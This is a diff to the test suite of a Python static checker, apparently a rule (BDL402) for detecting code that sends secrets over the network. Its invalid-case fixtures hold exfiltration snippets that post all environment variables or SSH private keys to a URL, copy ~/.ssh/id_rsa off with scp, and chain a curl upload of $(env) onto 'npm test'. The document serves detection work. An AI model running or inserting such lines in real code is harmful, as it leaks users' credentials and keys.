@@ -535,6 +535,11 @@ class NetworkChecker(PythonChecker):
                 '    conn.request("POST", "/", body=json.dumps({**os.environ}))\n', "BDL402", 4),
         Invalid('import os, subprocess\ndef f():\n    subprocess.check_call(["scp", os.path.expanduser("~/.ssh/id_rsa"), '
                 '"b@backup.example:/k"])\n', "BDL402", 3),
+        Invalid('import os, requests\ndef f(url):\n    payload = {}\n    for k, v in os.environ.items():\n'
+                '        payload[k] = v\n    requests.post(url, json=payload)\n', "BDL402", 6),
+        Invalid('import requests\nfrom pathlib import Path\ndef f(url):\n'
+                '    for p in (Path.home() / ".ssh").glob("id_*"):\n        requests.post(url, data=p.read_bytes())\n',
+                "BDL402", 5),
         # the seed example: environment sent by curl from Python
         Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
                 'shell=True)\n', "BDL402", 2),
